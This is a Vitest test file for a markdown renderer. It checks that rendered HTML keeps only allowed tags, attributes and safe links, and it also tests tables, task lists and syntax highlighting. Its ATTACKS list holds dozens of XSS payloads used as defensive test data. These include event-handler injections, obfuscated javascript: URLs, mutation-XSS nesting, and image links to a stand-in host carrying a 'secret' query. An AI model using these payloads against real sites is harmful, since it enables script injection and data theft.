import { describe, expect, it } from "vitest";
import { highlight } from "../src/highlight";
import { renderMarkdown } from "../src/markdown";

function render(source: string): HTMLElement {
  const box = document.createElement("div");
  box.append(renderMarkdown(source));
  return box;
}

/** Attacks of every family: raw HTML, URLs, attributes, entities, nesting, mutation. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<details open ontoggle=alert(1)>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<p style='background:url(https://evil.example)'>x</p>",
  "<div id=page class=problem>x</div>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://a/b)",
  "[x](/v1/sessions)",
  "[x](//evil.example)",
  '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
  "[x](https://a.example/\"onmouseover='alert(1)')",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/?q=secret)",
  '![x](https://evil.example/a.png "t")',
  "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[![x](https://evil.example/i.png)](https://evil.example)",
  "[a]: javascript:alert(1)\n\n[a]",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
  "# <svg/onload=alert(1)>",
  "> <iframe src=javascript:alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<!-- --><script>alert(1)</script>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
];

const ALLOWED = new Set(
  "a blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th thead tr ul"
    .toUpperCase()
    .split(" "),
);
const ATTRIBUTES = new Set("href title class start target rel type aria-label tabindex".split(" "));

describe("renderMarkdown against attacks", () => {
  it.each(ATTACKS)("lets nothing run, load or restyle: %s", (attack) => {
    for (const element of render(attack).querySelectorAll("*")) {
      expect(ALLOWED).toContain(element.tagName);
      for (const name of element.getAttributeNames()) expect(ATTRIBUTES).toContain(name);
      const href = element.getAttribute("href");
      if (href !== null) expect(href).toMatch(/^(?:https?:\/\/|mailto:)/);
    }
  });

  it("shows raw HTML as the text it is", () => {
    expect(render("<b>bold</b>").textContent?.trim()).toBe("<b>bold</b>");
  });

  it("gives no class that the page's own parts have", () => {
    const classes = [...render("```problem\nx\n```").querySelectorAll("pre [class]")];
    expect(classes.map((element) => element.className)).toEqual(["language-problem"]);
  });
});

describe("renderMarkdown", () => {
  it("opens links in a window that can't reach back", () => {
    const link = render("[docs](https://example.org)").querySelector("a");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(link?.getAttribute("target")).toBe("_blank");
  });

  it("shows an image as a link to it", () => {
    const box = render("![a cat](https://example.org/cat.png)");
    expect(box.querySelector("img")).toBeNull();
    expect(box.querySelector("a")?.textContent).toBe("Image: a cat");
    expect(box.querySelector("a")?.getAttribute("href")).toBe("https://example.org/cat.png");
  });

  it("links written addresses but not file names", () => {
    const links = [...render("see https://example.org and main.py, a@b.org").querySelectorAll("a")];
    expect(links.map((link) => link.getAttribute("href"))).toEqual(["https://example.org"]);
  });

  it("frames code with its language and a copy button", () => {
    const box = render("```python\nprint(1)\n```");
    expect(box.querySelector(".code-bar span")?.textContent).toBe("python");
    expect(box.querySelector("button.code-copy")?.getAttribute("type")).toBe("button");
    expect(box.querySelector(".code pre")?.textContent).toBe("print(1)\n");
  });

  it("aligns table cells by class, never by style", () => {
    const box = render("| a | b |\n| :-: | --: |\n| 1 | 2 |");
    expect(box.querySelector("[style]")).toBeNull();
    expect([...box.querySelectorAll("td")].map((cell) => cell.className)).toEqual([
      "align-center",
      "align-right",
    ]);
  });

  it("keeps the number that an ordered list starts with", () => {
    expect(render("3. three").querySelector("ol")?.getAttribute("start")).toBe("3");
  });
});

describe("task lists", () => {
  it("have boxes, and only at the beginning of an item", () => {
    const list = render("- [x] done\n- [ ] open\n- see [ ] there\n\n[x] no item");
    const items = [...list.querySelectorAll("li")].map((item) => item.textContent?.trim());
    expect(items).toEqual(["☑ done", "☐ open", "see [ ] there"]);
    expect(list.querySelector("p")?.textContent).toBe("[x] no item");
  });
});

describe("highlighting", () => {
  const coloured = (language: string, text: string) => {
    const code = document.createElement("code");
    code.className = `language-${language}`;
    code.textContent = text;
    highlight(code);
    return code;
  };

  it("adds spans and changes no character", () => {
    const text = 'def f():\n    return "<b>&amp;</b>"\n';
    const code = coloured("python", text);
    expect(code.querySelector(".hljs-keyword")?.textContent).toBe("def");
    expect(code.textContent).toBe(text);
    expect(code.querySelector("b")).toBeNull();
  });

  it("leaves languages alone that it does not know", () => {
    expect(coloured("klingon", "<b>nuqneH</b>").innerHTML).toBe("&lt;b&gt;nuqneH&lt;/b&gt;");
  });

  it("knows the usual short names", () => {
    expect(coloured("py", "def f(): pass").querySelector("span")).not.toBeNull();
    expect(coloured("ts", "const a = 1").querySelector("span")).not.toBeNull();
    expect(coloured("sh", "if true; then echo; fi").querySelector("span")).not.toBeNull();
  });
});
